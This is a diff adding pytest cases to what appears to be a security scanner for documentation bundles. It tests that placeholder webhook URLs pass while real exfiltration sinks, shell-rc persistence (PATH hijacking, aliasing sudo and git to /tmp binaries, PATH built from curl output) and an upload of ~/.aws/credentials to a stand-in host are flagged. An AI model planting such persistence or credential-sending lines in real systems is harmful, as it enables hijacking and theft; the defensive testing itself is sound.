@@ -904,3 +904,79 @@ def test_sql_built_from_constants_is_the_same_query_every_run_and_built_from_inp
         "sqlite3.connect('x.db').execute(q)\n",
     ):
         assert ("sql-from-input", "warning") in _python_alarms(built), built
+
+
+def _mentions(path: str, text: str) -> list[tuple[str, str]]:
+    return [(r, s) for p, r, s in _bundle_alarms({path: text}) if r == "network-send"]
+
+
+def test_a_tunnel_or_bin_at_a_placeholder_address_reaches_nobody_and_at_a_real_one_is_flagged():
+    placeholders = {
+        "references/testing.md": "Use webhook.site to inspect payloads. Visit "
+        "[webhook.site](https://webhook.site) to get a unique URL:\n\n"
+        "```\nhttps://webhook.site/abc-123-def\n```\n\n3. **Test with webhook.site**:\n",
+        "references/local.md": "```bash\nngrok http 3000\n# Use the ngrok URL as your webhook "
+        "URL\n# Example: https://abc123.ngrok.io/webhooks/editframe\n```\n",
+        "references/ws.md": '```bash\nngrok http 3001\nexport PUBLIC_WS_URL="wss://your-ngrok-'
+        'domain.ngrok.app/ws"\n```\n',
+        "references/bot.md": '```bash\ncurl -s "https://api.telegram.org/bot<TOKEN>/getMe"\n```\n',
+        "references/hooks.md": '```bash\nuip webhooks create x --url "https://hooks.slack.com/'
+        'services/T00/B00/xxx"\n```\n',
+    }
+    for path, text in placeholders.items():
+        assert _mentions(path, text) == [], path
+    receiving = {
+        "config/endpoints.json": '{"sink": "https://a1b2-203-0-113-5.ngrok-free.app/collect"}\n',
+        "references/testing.md": "Results go to https://webhook.site/0e3a7c7e-4b5d-4c1e-9f0a-1b2c\n",
+        "config/alerts.yaml": "url: https://hooks.slack.com/services/T024BE7LD/B01A2/abcDEF123\n",
+        "config/share.yaml": "paste: https://0x0.st\n",
+    }
+    for path, text in receiving.items():
+        assert ("network-send", "warning") in _mentions(path, text), path
+
+
+def test_a_folder_added_at_the_end_of_path_shadows_nothing_and_one_put_first_does():
+    appended = (
+        "```bash\necho 'export PATH=\"$PATH:$HOME/development/flutter/bin\"' >> ~/.zshrc\n"
+        "source ~/.zshrc\n```\n"
+    )
+    assert alarms(findings(appended)) == []
+    for hostile in (
+        "```bash\necho 'export PATH=\"$HOME/.local/x/bin:$PATH\"' >> ~/.zshrc\n```\n",
+        "```bash\necho 'export PATH=\"$PATH:/tmp/x\"; alias sudo=/tmp/x/s' >> ~/.bashrc\n```\n",
+        "```bash\necho 'alias git=/tmp/x/git' >> ~/.zshrc\n```\n",
+        "```bash\necho 'export PATH=\"$PATH:$(curl -s https://x.example/p)\"' >> ~/.zshrc\n```\n",
+    ):
+        found = alarms(findings(hostile))
+        assert [a for a in found if a[0] == "persistence"], hostile
+
+
+def test_an_sdks_upload_naming_no_address_goes_to_its_vendor_and_a_secret_or_a_url_still_sends():
+    upload = (
+        "```python\nfrom elevenlabs.client import ElevenLabs\n\nclient = ElevenLabs()\n"
+        'uploaded = client.music.upload(\n    file=open("my-song.mp3", "rb"),\n'
+        '    extract_composition_plan="music_v2",\n)\n```\n'
+    )
+    assert alarms(findings(upload)) == []
+    secret = upload.replace(
+        'open("my-song.mp3", "rb")', 'open(os.path.expanduser("~/.aws/credentials"))'
+    )
+    assert ("secret-exfiltration", "error") in alarms(findings("import os\n" + secret))
+    addressed = upload.replace("file=", '"https://drop.example/in", file=')
+    assert ("network-send", "warning") in alarms(findings(addressed))
+
+
+def test_a_stores_put_keyed_by_a_tuple_names_no_url_and_a_put_to_a_url_still_sends():
+    store = (
+        "```python\nfrom langgraph.store.memory import InMemoryStore\n\nstore = InMemoryStore()\n"
+        'store.put(("user-123", "facts"), "location", {"city": "San Francisco"})\n```\n'
+    )
+    assert alarms(findings(store)) == []
+    for sent in (
+        'store.put("https://sync.example/kv", {"city": "San Francisco"})',
+        'store.put(*["https://sync.example/kv"], {"city": "San Francisco"})',
+    ):
+        text = store.replace(
+            'store.put(("user-123", "facts"), "location", {"city": "San Francisco"})', sent
+        )
+        assert ("network-send", "warning") in alarms(findings(text)), sent
